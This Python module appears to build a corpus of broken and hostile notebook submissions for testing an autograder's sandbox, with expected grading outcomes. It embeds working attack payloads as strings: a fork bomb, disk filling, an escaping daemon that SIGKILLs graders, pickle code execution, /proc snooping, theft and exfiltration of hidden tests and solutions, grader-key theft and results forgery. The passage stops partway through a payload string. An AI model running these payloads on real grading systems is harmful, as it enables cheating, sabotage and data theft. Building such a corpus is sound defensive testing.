"""A corpus of broken and hostile submissions of 01_kmeans, 02_gradient_descent and
03_autoencoder, built from the current reference solutions and releases (so it stays valid as
the notebooks change), each with its expected outcome. ``python tests/corpus.py OUT`` writes
the notebooks to look at; the test suite grades them all in one run (tests/test_corpus.py).

Expected outcomes are stated against honest baselines graded in the same run: the reference
solution (full marks), the untouched release (zero) and honest-but-wrong versions (01's
``zeros``, 02's and 03's training loops that never step). A case "fails" tests when the named
hidden tests (and only those) lose their points; hostile cases must earn no point their code
did not, i.e. no more than the honest code they contain.

Cases whose containment rests on the sandbox (``sandbox=True``: reading, writing, signalling,
connecting, outliving the worker) are graded in every isolation setting the machine can
simulate; the others (broken notebooks, tricks on the grader's checks and on the reply
protocol) once. Hostile cases that look for things outside the worker aim at what the test
prepares for them (:class:`Targets`: decoy copies of the course, listening sockets, this run's
folders), found the way a student would (walking the disk, reading ``/proc``), and only ever
write to or signal what carries the run's token; writes to the real installation are probes
that change no byte. An attack step that succeeds prints ``ESCAPED`` (``forbidden`` text).
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from course.grading.notebook import grade_id, read_notebook
from course.submissions import reference_submission, release_path

ASSIGNMENT = "01_kmeans"
GD, AE = "02_gradient_descent", "03_autoencoder"
#: Marks that hostile cases leave if they escape: a process still running after grading (its
#: command line holds DAEMON_MARK) or a file the grader would create if it ran their pickle.
DAEMON_MARK = "corpus-daemon-survivor"
#: An honest submission (the zeros baseline) graded after every other one of its setting.
VICTIM = "victim_zeros"
PWNED = "/tmp/corpus-grader-ran-student-code"
PAIRWISE = {"test_pairwise_matches_brute_force", "test_pairwise_never_negative",
            "test_pairwise_fast", "test_pairwise_keeps_dtype", "test_pairwise_expanded_form"}
ASSIGN = {"test_assign_nearest", "test_assign_ties", "test_assign_int64"}
KMEANS = {"test_kmeans_outputs", "test_kmeans_inertia_never_increases",
          "test_kmeans_matches_sklearn", "test_kmeans_nmi",
          "test_kmeans_stops_early_and_is_deterministic", "test_kmeans_fast",
          "test_kmeans_history_describes_the_result", "test_kmeans_runs_n_iters_until_converged"}
PCA = {"test_pca_matches_sklearn", "test_pca_on_mnist", "test_pca_ratio_sane",
       "test_pca_ratio_matches_sklearn", "test_pca_keeps_dtype"}
TIMED = {"test_pairwise_fast", "test_kmeans_fast"}
TRAIN_CLF = {"test_train_classifier_returns_a_linear_model",
             "test_train_classifier_blobs_accuracy", "test_train_classifier_loss_falls",
             "test_train_classifier_moons_accuracy",
             "test_train_classifier_follows_the_sgd_recipe",
             "test_train_classifier_acc_log_is_test_accuracy_before_each_update"}
CIRCLE = {"test_circle_features_shape_dtype_and_device",
          "test_circle_features_each_point_by_a_fixed_formula",
          "test_circle_features_separate_the_circles"}
TRAIN_AE = {"test_train_returns_step_losses", "test_train_matches_a_full_batch_replay",
            "test_train_uses_the_given_optimizer",
            "test_train_shuffles_every_epoch_from_the_seed", "test_train_loss_halves",
            "test_train_reconstructs_heldout_images", "test_train_latent_accuracy"}
AFTER_TRAIN_AE = {"test_linear_autoencoder_layout", "test_linear_autoencoder_forward",
                  "test_autoencoder_layout", "test_autoencoder_parameter_count",
                  "test_autoencoder_matches_specification", "test_autoencoder_act_func",
                  "test_conv_autoencoder_layout", "test_conv_autoencoder_learns"}
#: A fault in AutoEncoder.forward alone (test_autoencoder_act_func calls the encoder and the
#: decoder, not forward).
AE_FORWARD = {"test_autoencoder_layout", "test_autoencoder_matches_specification"}


@dataclass
class Case:
    name: str
    kind: str  # "broken" or "hostile"
    build: Callable[[], bytes]
    fail: set[str] | None = None  # exactly these tests fail (None: see score)
    may_fail: set[str] = field(default_factory=set)
    score: str | None = None  # "zero", "full", or "at_most_zeros" (no better than zeros)
    message: str = ""  # a fragment some failing test's message (or the notes) contains
    needs: str = ""  # "cgroups", "pidns", "lockdown", "signals": only where that exists
    assignment: str = ASSIGNMENT
    at_most: str = ""  # a baseline (same run) whose score this case may not exceed
    budget_s: float | None = None  # its own time budget (a case that hangs spends it all)
    sandbox: bool = False  # contained by the sandbox's layers: tried in every setting
    forbidden: tuple[str, ...] = ()  # text none of its artefacts may hold (leaks, ESCAPED)
    #: what else the test checks for it (tests/test_corpus.py): "listeners" (nothing reached
    #: them), "planted" (no file of the run holds PLANTED), "tampered" (installation and
    #: decoys unchanged), "victim" (an honest submission graded after it scores as alone),
    #: "concurrent" (the honest ones graded beside it too), "markdown" (no forged heading or
    #: table row in its feedback), "survivor" (no process with its daemon mark is left)
    checks: tuple[str, ...] = ()
    grader_mb: float | None = None  # the grader process's peak memory may not exceed this
    daemon_mark: str = ""  # the command-line mark of the processes it leaves, if any
    late: bool = False  # graded after the others (with the victim)


@dataclass
class Targets:
    """What hostile cases aim at outside the worker (set by the test before building them)."""

    token: str = "corpus-untargeted"  # in the name of every folder of the run and its decoys
    root: str = "/tmp/corpus-untargeted"  # the run's folder: submitted/, grades/, decoys
    tcp_port: int = 9
    udp_port: int = 9
    unix_sockets: tuple[str, ...] = ()  # named unix sockets (stand-ins for docker.sock)
    abstract_socket: str = "corpus-untargeted-socket"
    daemon_lifetime_s: float = 90.0  # an escaped daemon gives up after this


TARGETS = Targets()


def aim(targets: Targets) -> None:
    """Point the hostile cases built from now on at ``targets``."""
    global TARGETS
    TARGETS = targets


def _fill(source: str) -> str:
    """Put the current targets into a case's source (``@TOKEN@`` and friends, as literals)."""
    t = TARGETS
    values = {"@TOKEN@": t.token, "@ROOT@": t.root, "@TCP@": t.tcp_port, "@UDP@": t.udp_port,
              "@UNIX@": list(t.unix_sockets), "@ABSTRACT@": t.abstract_socket,
              "@LIFETIME@": t.daemon_lifetime_s, "@DAEMON_MARK@": DAEMON_MARK}
    for key, value in values.items():
        source = source.replace(key, repr(value))
    return source


# -- building blocks -------------------------------------------------------------------------
def _dump(nb: dict[str, Any]) -> bytes:
    return (json.dumps(nb, indent=1, ensure_ascii=False) + "\n").encode()


def _cell(nb: dict[str, Any], gid: str) -> dict[str, Any]:
    return next(c for c in nb["cells"] if grade_id(c) == gid)


def _replace(base: Callable[[], dict], **cells: str) -> Callable[[], bytes]:
    def build() -> bytes:
        nb = base()
        for gid, src in cells.items():
            _cell(nb, gid)["source"] = src
        return _dump(nb)
    return build


def _append(base: Callable[[], dict], source: str) -> Callable[[], bytes]:
    """``base`` with a cell added at the end; ``source`` may name targets (see :func:`_fill`)."""
    def build() -> bytes:
        nb = base()
        nb["cells"].append({"cell_type": "code", "metadata": {}, "source": _fill(source),
                            "outputs": [], "execution_count": None, "id": "added-by-student"})
        return _dump(nb)
    return build


def reference(assignment: str = ASSIGNMENT) -> dict[str, Any]:
    return reference_submission(assignment)


def release(assignment: str = ASSIGNMENT) -> dict[str, Any]:
    return read_notebook(release_path(assignment))


def gd_reference() -> dict[str, Any]:
    return reference(GD)


def ae_reference() -> dict[str, Any]:
    return reference(AE)


def zeros() -> dict[str, Any]:
    """Every function returns zeros of the right shape: a few shape checks pass, no more."""
    nb = release()
    z = {
        "pairwise_sq_dists": "def pairwise_sq_dists(X, C):\n    return X.new_zeros(len(X), len(C))\n",
        "assign_clusters": "def assign_clusters(X, C):\n"
                           "    return torch.zeros(len(X), dtype=torch.int64, device=X.device)\n",
        "update_centroids": "def update_centroids(X, labels, C_old):\n    return C_old * 0\n",
        "kmeans": "def kmeans(X, k, n_iters=20, seed=0):\n"
                  "    return X[:k] * 0, torch.zeros(len(X), dtype=torch.int64), [0.0, 0.0]\n",
        "pca": "def pca(X, n_components):\n    d = X.shape[1]\n"
               "    return X.new_zeros(len(X), n_components), X.new_zeros(n_components, d), "
               "X.new_zeros(n_components)\n",
    }
    for gid, src in z.items():
        _cell(nb, gid)["source"] = src
    return nb


def _without(*gids: str) -> Callable[[], bytes]:
    def build() -> bytes:
        nb = reference()
        nb["cells"] = [c for c in nb["cells"] if grade_id(c) not in gids]
        return _dump(nb)
    return build


def _reordered() -> bytes:
    nb = reference()
    nb["cells"].reverse()
    return _dump(nb)


def _renamed() -> bytes:
    nb = reference()
    _cell(nb, "pca")["metadata"]["nbgrader"]["grade_id"] = "my_pca"
    return _dump(nb)


def _old_minor() -> bytes:
    nb = reference()
    nb["nbformat_minor"] = 4
    for c in nb["cells"]:
        c.pop("id", None)
    return _dump(nb)


def _locked_tests_edited() -> bytes:
    nb = release()
    for c in nb["cells"]:
        if (c.get("metadata", {}).get("nbgrader") or {}).get("grade"):
            c["source"] = "print('all good')\n"
    _cell(nb, "setup")["source"] = "import torch\nprint('setup replaced')\n"
    return _dump(nb)


PATCH_TORCH = """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.isfinite = lambda t: torch.ones_like(t, dtype=torch.bool)
torch.save = lambda *a, **k: None
"""

REPLACE_BUILTINS = """
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda obj: 10
builtins.float = lambda *a: 1.0
"""

FORGE_RESULTS = """
import json, os
forged = {"score": 999.0, "max_score": 17.0, "tests": []}
for folder in [".", os.path.expanduser("~"), "/tmp", "/"]:
    for name in ("results.json", "grades.csv", "gradebook.db", "feedback.md"):
        try:
            with open(os.path.join(folder, name), "w") as fh:
                json.dump(forged, fh)
        except OSError:
            pass
for top, dirs, files in os.walk("/tmp"):
    for name in files:
        if name in ("results.json", "report.json") and @TOKEN@ in top:  # this run's only
            try:
                with open(os.path.join(top, name), "w") as fh:
                    json.dump(forged, fh)
            except OSError:
                pass
"""

STEAL_SOLUTIONS = """
import json, pathlib
import course
root = pathlib.Path(course.__file__).resolve().parents[1]
for path in [root / "solutions" / "01_kmeans" / "01_kmeans.ipynb",
             root / "source" / "01_kmeans" / "01_kmeans.ipynb"]:
    try:
        nb = json.loads(path.read_text())
    except OSError:
        continue
    for cell in nb["cells"]:
        if (cell.get("metadata", {}).get("nbgrader") or {}).get("solution"):
            exec("".join(cell["source"]), globals())
try:
    HIDDEN = (root / "autograder" / "test_01_kmeans.py").read_text()
except OSError:
    HIDDEN = ""
"""

DETECT_GRADING = """
import os, sys, pathlib
GRADED = ("course.grading.worker" in sys.modules or "course-worker" in os.getcwd()
          or not pathlib.Path("/proc/1/cmdline").read_bytes().startswith(b"/sbin/init"))
if GRADED:
""" + "\n".join("    " + line for line in STEAL_SOLUTIONS.strip().splitlines()) + "\n"

FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""


# -- 01_kmeans: new hostile attempts ---------------------------------------------------------
FILL_DISK = """
import os
chunk = b"x" * 2**20
for folder in ["/tmp", os.getcwd(), os.path.expanduser("~"), "/dev/shm", "/var/tmp"]:
    for n in range(100_000):
        try:
            with open(os.path.join(folder, f"filler-{n}.bin"), "wb") as fh:
                fh.write(chunk * 16)
        except OSError:
            break
"""

BACKGROUND_THREAD = """
import os, threading, time

def _burn():
    n = 0
    while True:
        n += 1
        if n % 200_000 == 0:
            print("still running", n)
            try:
                with open(f"/tmp/bg-{n % 50}.txt", "w") as fh:
                    fh.write("x" * 2**20)
            except OSError:
                pass

for _ in range(2):
    threading.Thread(target=_burn, daemon=True).start()
"""

DAEMON = f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time\\nwhile True: time.sleep(0.2)", "{DAEMON_MARK}"])
    os._exit(0)
"""

EVIL_PICKLE = f"""
import os

class Payload(str):
    def __reduce__(self):
        return (os.system, ("touch {PWNED}",))

def pca(X, n_components):
    return Payload("Z"), Payload("components"), Payload("ratio")
"""

TENSOR_SUBCLASS = f"""
import os
import torch

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "__eq__", "eq", "isfinite",
                                              "all", "any", "__lt__", "__le__", "__ge__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {{}})

    def __reduce_ex__(self, protocol):
        return (os.system, ("touch {PWNED}",))

def _lying(f):
    def wrapped(*args, **kwargs):
        out = f(*args, **kwargs)
        if isinstance(out, torch.Tensor):
            return out.as_subclass(Liar)
        if isinstance(out, tuple):
            return tuple(o.as_subclass(Liar) if isinstance(o, torch.Tensor) else o for o in out)
        return out
    return wrapped

for _name in ("pairwise_sq_dists", "assign_clusters", "update_centroids", "kmeans", "pca"):
    globals()[_name] = _lying(globals()[_name])
"""

PROC_SNOOP = """
import json, os, pathlib
import course
repo = pathlib.Path(course.__file__).resolve().parents[1]
found = {}
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for what in ("cmdline", "environ"):
        try:
            found[f"{pid}/{what}"] = pathlib.Path(f"/proc/{pid}/{what}").read_bytes()
        except OSError:
            pass
    for link in ("root", "cwd"):
        for rel in ("solutions/01_kmeans/01_kmeans.ipynb", "source/01_kmeans/01_kmeans.ipynb"):
            for base in (f"/proc/{pid}/{link}{repo}", f"/proc/{pid}/{link}"):
                try:
                    nb = json.loads(pathlib.Path(base, rel).read_text())
                except (OSError, ValueError):
                    continue
                for cell in nb["cells"]:
                    if (cell.get("metadata", {}).get("nbgrader") or {}).get("solution"):
                        exec("".join(cell["source"]), globals())
"""

SIGNAL_PARENT = """
def pca(X, n_components):
    import os, signal
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmd = fh.read()
            if b"--submission" in cmd and @TOKEN@.encode() in cmd and pid != os.getpid():
                os.kill(pid, signal.SIGSTOP)  # the graders of this run
        except OSError:
            pass
    os.kill(os.getppid(), signal.SIGKILL)
    return None
"""

META_DEVICE = """
def pca(X, n_components):
    Xc = X - X.mean(0)
    U, S, Vh = torch.linalg.svd(Xc, full_matrices=False)
    V = Vh[:n_components]
    ratio = (S**2 / (S**2).sum())[:n_components]
    return (Xc @ V.T).to("meta"), V, ratio
"""

HUGE_VIEW = """
def pca(X, n_components):
    return torch.ones(1).expand(3 * 2**30), torch.ones(1).expand(2**31), torch.ones(n_components)
"""

OVERSIZED = """
def pca(X, n_components):
    return torch.ones(80_000_000), X.new_zeros(n_components, X.shape[1]), X.new_zeros(n_components)
"""


# -- 01_kmeans: attacks on what lies outside the worker (aimed with Targets) ----------------
#: What planted files hold (assembled at run time in the cases' code, so that a case's own
#: notebook never holds it).
PLANTED = "corpus-" + "planted"  # split: the repository (cloned as a decoy) must not hold it
#: What the decoys' hidden tests and solutions carry (tests/hostile_fixtures.py).
CANARY = "corpus-canary-"
#: Text of the hidden tests' first line: no artefact of a case may hold it.
HIDDEN_TESTS_HEAD = "instructor only: never released"

FIND = '''
import json, os, pwd, time

def _real_home():
    try:
        return pwd.getpwuid(os.getuid()).pw_dir
    except KeyError:
        return "/root"

_PROMISING = ("backup", "clone", "autograder", "solutions", "exchange", "inbound", "export",
              "course", "corpus", "submitted", "grades")
_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "var", "run",
         "snap", "nix", "node_modules", "site-packages", "__pycache__"}

def _walk(top, depth, seconds=6.0):
    """(path, is_folder) for what lies under top, at most depth folders down and for at most
    seconds, promising names first: how a student would look for copies of the course."""
    deadline = time.monotonic() + seconds
    stack = [(top, 0)]
    while stack and time.monotonic() < deadline:
        folder, d = stack.pop()
        try:
            entries = sorted(os.scandir(folder), key=lambda e: any(w in e.name for w in _PROMISING))
        except OSError:
            continue
        for e in entries:
            try:
                is_dir = e.is_dir(follow_symlinks=False)
            except OSError:
                continue
            yield e.path, is_dir
            if is_dir and d < depth and e.name not in _SKIP and not e.name.startswith("."):
                stack.append((e.path, d + 1))

def _everywhere():
    for top, depth in (("/", 3), ("/tmp", 7), (_real_home(), 4)):
        yield from _walk(top, depth)

def _grade_id(cell):
    return (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id")

def _environ_values(name):
    """The values of the variable `name` in every process environment this one can read."""
    prefix = name.encode() + b"="
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                env = fh.read()
        except OSError:
            continue
        for item in env.split(b"\\0"):
            if item.startswith(prefix):
                yield item[len(prefix):].decode()

SOLUTION_IDS = ("pairwise_sq_dists", "assign_clusters", "update_centroids", "kmeans", "pca")
'''

EXFILTRATE = FIND + '''
def _stolen():
    texts = []
    for path, is_dir in _everywhere():
        try:
            if path.endswith("/autograder/test_01_kmeans.py"):
                with open(path) as fh:
                    texts.append(fh.read(300))
            elif path.endswith("/solutions/01_kmeans/01_kmeans.ipynb"):
                with open(path) as fh:
                    cells = json.load(fh)["cells"]
                texts += ["".join(c["source"])[:300] for c in cells if _grade_id(c) == "pca"]
        except (OSError, ValueError, KeyError):
            continue
        if len(texts) >= 4:
            break
    return " || ".join(texts) or "nothing found"

STOLEN = _stolen()
print("stolen:", STOLEN)

def _raise_where(text):
    """Raise in code whose file name is '<cell ' + text + '>': the worker reports it as where."""
    exec(compile("raise LookupError('see where')", "<cell " + text + ">", "exec"), {})

def pairwise_sq_dists(X, C):  # back through an exception's message
    raise RuntimeError(STOLEN[:390])

def assign_clusters(X, C):  # back through an exception's location
    _raise_where(STOLEN[:3000])

_raise_where(STOLEN)  # while the cells run: back through the notes
'''

SOLVE_FROM_OTHER_COPY = FIND + '''
for _path, _is_dir in _everywhere():
    if not _path.endswith(("/solutions/01_kmeans/01_kmeans.ipynb",
                           "/source/01_kmeans/01_kmeans.ipynb")):
        continue
    try:
        with open(_path) as _fh:
            _cells = {_grade_id(c): "".join(c["source"]) for c in json.load(_fh)["cells"]}
    except (OSError, ValueError, KeyError):
        continue
    if all(i in _cells for i in SOLUTION_IDS) and "NotImplementedError" not in _cells["pca"]:
        for _i in SOLUTION_IDS:
            exec(_cells[_i], globals())
        print("ESCAPED: solutions taken from", _path)
        break
'''

COPY_CLASSMATE = FIND + '''
def _classmates():
    for top, depth in (("/tmp", 7), (_real_home(), 4), ("/srv", 6), ("/home", 5)):
        for path, is_dir in _walk(top, depth):
            name = os.path.basename(path)
            if (not is_dir and name.endswith(".ipynb") and "01_kmeans" in name
                    and any(w in path for w in ("exchange", "inbound", "export"))):
                yield path

for _path in _classmates():
    try:
        with open(_path) as _fh:
            _cells = {_grade_id(c): "".join(c["source"]) for c in json.load(_fh)["cells"]}
    except (OSError, ValueError, KeyError):
        continue
    if all(i in _cells for i in SOLUTION_IDS) and "NotImplementedError" not in _cells["pca"]:
        for _i in SOLUTION_IDS:
            exec(_cells[_i], globals())
        print("ESCAPED: copied the notebook", _path)
        break
'''

TAMPER = FIND + '''
import pathlib, site
import numpy, torch
import course

_PKG = pathlib.Path(course.__file__).resolve().parent
_REPO = _PKG.parent
_SITE = [pathlib.Path(p) for p in site.getsitepackages()]
_TOKEN = @TOKEN@

def _probe_write(path):
    """Open the real file for appending and write nothing: proves write access, changes no
    byte (this test must never damage the checkout or the Python environment)."""
    try:
        with open(path, "ab"):
            pass
        print("ESCAPED: could write", path)
    except OSError:
        pass

def _probe_create(path):
    """Create a file where the grader would run it, and remove it at once."""
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return
    os.close(fd)
    os.unlink(path)
    print("ESCAPED: could create", path)

for _p in [_PKG / "grading" / "checks.py", _PKG / "grading" / "plugin.py",
           _PKG / "grading" / "session.py", _PKG / "grading" / "integrity.py",
           _REPO / "autograder" / "test_01_kmeans.py", _REPO / "pyproject.toml",
           pathlib.Path(torch.__file__), pathlib.Path(numpy.__file__)]:
    _probe_write(_p)
for _p in [_PKG / "grading" / f"{_TOKEN}.py", _REPO / "autograder" / "conftest.py",
           *[s / f"{_TOKEN}.pth" for s in _SITE], *[s / "sitecustomize.py" for s in _SITE]]:
    if not _p.exists():
        _probe_create(_p)

# the real payload, on every copy of the course it finds (this run's decoys only)
_PAYLOAD = "\\n# " + "corpus-" + "tampered\\nexpect = lambda *args, **kwargs: None\\n"
for _path, _is_dir in _everywhere():
    if _TOKEN in _path and _path.endswith(("course/grading/checks.py",
                                           "autograder/test_01_kmeans.py")):
        try:
            with open(_path, "a") as _fh:
                _fh.write(_PAYLOAD)
            print("ESCAPED: tampered with", _path)
        except OSError:
            pass
'''

#: 01's kmeans started from the global generator (tests/variants/01_kmeans/kmeans_global_rng):
#: honest code that fails test_kmeans_matches_sklearn alone.
GLOBAL_RNG_KMEANS = (Path(__file__).parent / "variants" / ASSIGNMENT / "kmeans_global_rng"
                     / "kmeans.py").read_text()

FORGE_KEPT = FIND + '''
import glob, io, hashlib, hmac
import torch
import course.data

_TOKEN = @TOKEN@
# what this notebook's own kmeans finds on MNIST-10k: the "reference" it would like to be
# compared with (scikit-learn's centres are kept between gradings: course/grading/kept.py)
_X, _ = course.data.load_mnist("test", flatten=True)
_C, _, _hist = kmeans(_X, 10, 20, seed=0)
_FORGED = (_C.double(), float(_hist[-1]))

def _cache_dirs():
    for value in _environ_values("XDG_CACHE_HOME"):
        yield os.path.join(value, "course", "kept-references")
    for path, is_dir in _walk("/tmp", 7):
        if is_dir and os.path.basename(path) == "kept-references":
            yield path
    yield os.path.join(_real_home(), ".cache", "course", "kept-references")

def _keys():
    yield os.environ.get("COURSE_GRADER_KEY_FILE", "")
    yield os.path.join(_real_home(), ".config", "course-grader", "key")

_key = b"guessed" * 5
for _k in _keys():
    try:
        with open(_k, "rb") as fh:
            _key = fh.read()
        print("ESCAPED: read the grader key", _k)
        break
    except OSError:
        pass

def _entry(name, fp):
    buf = io.BytesIO()
    torch.save(_FORGED, buf)
    payload = buf.getvalue()
    context = b"course kept reference v1\\n" + f"{name}\\0{fp}\\0".encode()
    return hmac.new(_key, context + payload, hashlib.sha256).digest() + payload

_name = "test_01_kmeans.sklearn_kmeans_mnist"
for _folder in dict.fromkeys(_cache_dirs()):
    if _TOKEN not in _folder:  # the machine's real cache: a probe that changes no byte
        for _path in glob.glob(os.path.join(_folder, _name + ".*.pt")):
            try:
                with open(_path, "ab"):
                    pass
                print("ESCAPED: could write", _path)
            except OSError:
                pass
        continue
    _targets = glob.glob(os.path.join(_folder, _name + ".*.pt"))
    try:  # the fingerprint of the tests this grader runs, where they can be read
        from course.grading import kept
        _targets.append(os.path.join(_folder, _name + "." + kept.fingerprint(
            os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(kept.__file__))),
                         "autograder", "test_01_kmeans.py")) + ".pt"))
    except OSError:
        pass
    for _path in _targets:
        _fp = os.path.basename(_path)[len(_name) + 1:-3]
        try:
            os.makedirs(_folder, exist_ok=True)
            with open(_path, "wb") as fh:
                fh.write(_entry(_name, _fp))
            print("ESCAPED: forged the kept reference", _path)
        except OSError:
            pass
'''

PLANT_RESULTS = FIND + '''
import hashlib
from course.grading import integrity, runner

_TOKEN = @TOKEN@
_MARK = "corpus-" + "planted"

def _key_files():
    """The grader's signing key: named in the graders' environment, or at its default place."""
    yield from _environ_values("COURSE_GRADER_KEY_FILE")
    yield os.path.join(_real_home(), ".config", "course-grader", "key")

_signed = False
for _key in _key_files():
    try:
        with open(_key, "rb") as _fh:
            _fh.read()
    except OSError:
        continue
    os.environ["COURSE_GRADER_KEY_FILE"] = _key  # integrity.sign now signs as the grader
    _signed = True
    print("ESCAPED: read the grader key", _key)
    break

def _sha(path):
    try:
        with open(path, "rb") as fh:
            return hashlib.sha256(fh.read()).hexdigest()
    except OSError:
        return ""

_repo = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(runner.__file__))))

def _forged(name, notebook):
    """results.json of `name` with full marks, fingerprinted (and signed) like the grader's."""
    res = {"score": 17.0, "max_score": 17.0, "execution_time": 1.0, "output": _MARK,
           "visibility": "visible", "stdout_visibility": "hidden", "tests": [],
           "extra_data": {"assignment": "01_kmeans", "submission": name, "device": "cpu",
                          "cells": {}, "isolation": {},
                          "submission_sha256": _sha(notebook),
                          "tests_sha256": _sha(os.path.join(_repo, "autograder", "test_01_kmeans.py")),
                          "release_sha256": _sha(os.path.join(_repo, "release", "01_kmeans", "01_kmeans.ipynb")),
                          "grader": runner.GRADER_VERSION}}
    if _signed:
        integrity.sign(res)
    return res

_planted = []
def _put(path, text):
    try:
        with open(path, "w") as fh:
            fh.write(text)
        _planted.append(path)
    except OSError:
        pass

_folders, _notebooks = set(), {}
for _top, _depth in (("/tmp", 7), (_real_home(), 3)):
    for _path, _is_dir in _walk(_top, _depth):
        if _TOKEN not in _path:
            continue  # this run's folders only, never anybody else's
        if _is_dir:
            _folders.add(_path)
        elif _path.endswith("/01_kmeans/01_kmeans.ipynb") and "/submitted" in _path:
            _notebooks[_path.split("/")[-3]] = _path
# students not graded yet: results ready for the grader to reuse
for _grades in [f for f in _folders if os.path.basename(f).startswith("grades")]:
    for _name, _nb in _notebooks.items():
        _dest = os.path.join(_grades, _name)
        if os.path.exists(os.path.join(_dest, "results.json")):
            continue
        try:
            os.makedirs(_dest, exist_ok=True)
        except OSError:
            continue
        _put(os.path.join(_dest, "results.json"), json.dumps(_forged(_name, _nb)))
        _put(os.path.join(_dest, "feedback.md"), f"**Score: 17 / 17**\\n\\n{_MARK}\\n")
# and a results.json, report.json and feedback.md in every other folder of the run
_report = json.dumps({"records": [{"test": "test_pca_matches_sklearn", "name": _MARK,
                                   "cell": "test_pca", "max_score": 17.0, "passed": True,
                                   "message": ""}], "notes": [_MARK]})
for _folder in sorted(_folders):
    _put(os.path.join(_folder, "results.json"), json.dumps({"score": 17.0, "output": _MARK}))
    _put(os.path.join(_folder, "report.json"), _report)
    _put(os.path.join(_folder, "feedback.md"), f"**Score: 17 / 17** {_MARK}\\n")
# the graders' private folders, named on their command lines (--report)
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _fh:
            _args = _fh.read().split(b"\\0")
    except OSError:
        continue
    if b"--report" in _args and any(_TOKEN.encode() in a for a in _args):
        _put(_args[_args.index(b"--report") + 1].decode(), _report)
if _planted:
    print("ESCAPED: planted", len(_planted), "files, e.g.", _planted[:3])
'''

#: The daemon's loop (run with ``python -c``): for its lifetime, forge the report of every
#: grader of this run, SIGKILL the graders and their workers, rewrite results and feedback.
ATTACKER_LOOP = """
import json, os, signal, sys, time
MARK, TOKEN, ROOT, LIFETIME = sys.argv[1], sys.argv[2].encode(), sys.argv[3], float(sys.argv[4])
PLANTED = "corpus-" + "planted"
RESULTS = json.dumps({"score": 17.0, "max_score": 17.0, "output": PLANTED, "tests": []})
REPORT = json.dumps({"records": [{"test": "test_pca_matches_sklearn", "name": PLANTED,
                                  "cell": "test_pca", "max_score": 17.0, "passed": True,
                                  "message": ""}]})

def write(path, text):
    try:
        with open(path + ".daemon", "w") as fh:
            fh.write(text)
        os.replace(path + ".daemon", path)
    except OSError:
        pass

def processes():
    table = {}
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmd = fh.read()
            with open(f"/proc/{pid}/stat") as fh:
                ppid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        table[int(pid)] = (cmd, ppid)
    return table

end = time.monotonic() + LIFETIME
while time.monotonic() < end:
    table = processes()
    graders = {pid for pid, (cmd, _) in table.items() if TOKEN in cmd and b"--submission" in cmd}
    for pid in graders:
        args = table[pid][0].split(b"\\0")
        if b"--report" in args:
            write(args[args.index(b"--report") + 1].decode(), REPORT)
    victims = set(graders)
    for pid, (cmd, ppid) in table.items():  # the graders' workers (unshare in between)
        for _ in range(4):
            if ppid in graders:
                victims.add(pid)
                break
            ppid = table.get(ppid, (b"", 0))[1]
    for pid in victims:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for folder, dirs, names in os.walk(ROOT):
        dirs[:] = [d for d in dirs if d not in ("backup-clone", "exchange", "submitted")]
        if "results.json" in names or "feedback.md" in names:
            write(os.path.join(folder, "results.json"), RESULTS)
            write(os.path.join(folder, "feedback.md"), "**Score: 17 / 17**\\n" + PLANTED)
    time.sleep(0.1)
"""

DAEMON_ATTACKER = f'''
import os, sys, time
_LOOP = {ATTACKER_LOOP!r}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _LOOP, @DAEMON_MARK@ + "-attacker",
                                  @TOKEN@, @ROOT@, str(@LIFETIME@)])
    os._exit(0)
time.sleep(10)  # keep the request going while the daemon works (and in case it is frozen after)
'''

NETWORK = '''
import socket
_REACHED = []

def _try(what, connect):
    try:
        connect()
        _REACHED.append(what)
    except OSError as exc:
        print("network:", what, "failed:", type(exc).__name__)

def _tcp():
    with socket.create_connection(("127.0.0.1", @TCP@), timeout=3) as s:
        s.sendall(b"corpus tcp")

def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"corpus udp", ("127.0.0.1", @UDP@))

def _unix(address):
    def connect():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect(address)
            s.sendall(b"corpus unix")
    return connect

_try("tcp", _tcp)
_try("udp", _udp)
for _path in @UNIX@:
    _try("unix " + _path, _unix(_path))
_try("abstract unix", _unix("\\0" + @ABSTRACT@))
print("network: no error from", _REACHED)
'''

SCRATCH_QUOTA = '''
import os
_held = 0
for _n in range(51):  # up to 3 GiB held at once, in files under the file-size limit
    try:
        with open(f"corpus-disk-{_n}.bin", "wb") as _fh:
            for _ in range(60):
                _fh.write(b"x" * 2**20)
                _held += 2**20
    except OSError:
        break
for _n in range(51):
    try:
        os.remove(f"corpus-disk-{_n}.bin")
    except OSError:
        pass
